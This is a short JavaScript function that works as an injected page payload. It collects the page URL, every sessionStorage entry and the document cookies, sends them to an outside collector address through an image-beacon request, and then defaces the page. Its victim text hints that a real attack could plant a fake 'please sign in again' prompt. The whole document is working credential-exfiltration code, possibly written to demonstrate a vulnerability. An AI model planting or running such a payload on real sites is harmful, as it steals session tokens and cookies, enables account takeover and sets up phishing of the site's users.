function takeOver(collector) {
  const kept = Object.keys(sessionStorage).map((name) => [name, sessionStorage.getItem(name).slice(0, 1000)]);
  const taken = {
    address: location.href.slice(0, 800),
    storage: JSON.stringify(Object.fromEntries(kept)).slice(0, 3000),
    cookies: document.cookie.slice(0, 800),
    text_length: document.body.innerText.length,
  };
  new Image().src = collector + '?' + new URLSearchParams(taken);

  document.title = 'This page is not yours any more';
  document.documentElement.setAttribute('data-taken-over', '');
  const victim = document.querySelector('[data-victim]');
  if (victim) {
    victim.setAttribute('data-taken-over', '');
    victim.textContent = 'The API wrote this. It could as well have written: please sign in again.';
  }
}
